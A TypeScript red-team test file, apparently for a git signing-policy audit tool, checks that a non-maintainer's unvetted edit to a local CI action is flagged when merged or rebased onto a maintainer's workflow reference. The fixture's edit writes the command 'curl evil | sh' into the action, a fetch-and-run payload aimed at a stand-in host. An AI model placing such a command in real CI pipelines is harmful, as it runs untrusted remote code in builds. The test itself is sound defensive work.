// Red team: a file the CI runs by a direct reference counts as protected only where a parent's CI ran
// it. Two sides: Alice (maintainer) makes the workflow use the local action tools/act on main, while Carol (a signer,
// no maintainer) edits tools/act/action.yml on a branch where nothing runs it; Carol then merges the two. Her
// edit was judged where nothing ran it, the reference where Alice signed it: the merge brings them
// together, so CI now runs a version of the action no maintainer vouched for. It must fail.
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { cleanupTemp, makeRepo, type TestRepo } from '../helpers/repo.js';
import { commitAsPerson, configureSshSigning, makeSshKey, type SshTestKey } from '../helpers/ssh.js';
import { runMain, parseJson, resultOf } from '../helpers/cli.js';

let alice: SshTestKey;
let carol: SshTestKey;
beforeAll(() => {
  const keys = mkdtempSync(join(tmpdir(), 'gg-rt13-dm-'));
  alice = makeSshKey(keys, 'ed25519', 'alice');
  carol = makeSshKey(keys, 'ed25519', 'carol');
});
afterAll(() => cleanupTemp());

const POLICY =
  'version: 1\nsigners:\n  - name: Alice\n    emails: [alice@example.com]\n  - name: Carol\n    emails: [carol@example.com]\nmaintainers: [Alice]\n';
const wf = (step: string): string =>
  `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - ${step === 'USES' ? 'uses: ./tools/act' : `run: ${step}`}\n`;
const ACT = (cmd: string): string =>
  `name: act\nruns:\n  using: composite\n  steps:\n    - run: ${cmd}\n      shell: bash\n`;

function setUp(): TestRepo {
  const r = makeRepo();
  configureSshSigning(r, alice);
  commitAsPerson(r, alice, 'alice@example.com', 'gitguard init', {
    '.gitguard/policy.yml': POLICY,
    '.gitguard/allowed_signers': `alice@example.com ${alice.pub}\ncarol@example.com ${carol.pub}\n`,
    '.github/workflows/ci.yml': wf('echo hi'),
    'tools/act/action.yml': ACT('echo safe'),
  });
  return r;
}

async function protectedOutcome(r: TestRepo) {
  const res = await runMain(['audit', '-C', r.dir, '--format', 'json', '--no-cache', '-t', 'protections'], {
    env: r.env,
  });
  const x = resultOf(parseJson(res), 'protected-paths-changed-by-maintainers');
  return { outcome: x.outcome, findings: x.findings.map((f) => f.message) };
}

const merge = (r: TestRepo, key: SshTestKey, email: string) =>
  r.run(['-c', `user.signingkey=${key.path}`, 'merge', '-q', '-S', '--no-ff', '-m', 'merge side', 'side'], {
    env: { GIT_COMMITTER_NAME: email.split('@')[0]!, GIT_COMMITTER_EMAIL: email },
  });

for (const by of ['carol', 'alice'] as const) {
  test(`${by} merges Carol's unvetted action edit with Alice's new reference to it: ${by === 'carol' ? 'fails' : 'Alice vouches (passes)'}`, async () => {
    const r = setUp();
    r.run(['checkout', '-q', '-b', 'side']);
    commitAsPerson(r, carol, 'carol@example.com', 'tweak script', { 'tools/act/action.yml': ACT('curl evil | sh') });
    r.run(['checkout', '-q', 'main']);
    commitAsPerson(r, alice, 'alice@example.com', 'ci runs the script', {
      '.github/workflows/ci.yml': wf('USES'),
    });
    if (by === 'carol') merge(r, carol, 'carol@example.com');
    else merge(r, alice, 'alice@example.com');
    const got = await protectedOutcome(r);
    expect(got.outcome).toBe(by === 'carol' ? 'fail' : 'pass');
  });
}

test('carol rebases her edit onto the reference (her commit changes what CI runs): fails', async () => {
  const r = setUp();
  commitAsPerson(r, alice, 'alice@example.com', 'ci runs the script', {
    '.github/workflows/ci.yml': wf('USES'),
  });
  commitAsPerson(r, carol, 'carol@example.com', 'tweak script', { 'tools/act/action.yml': ACT('curl evil | sh') });
  expect((await protectedOutcome(r)).outcome).toBe('fail');
});
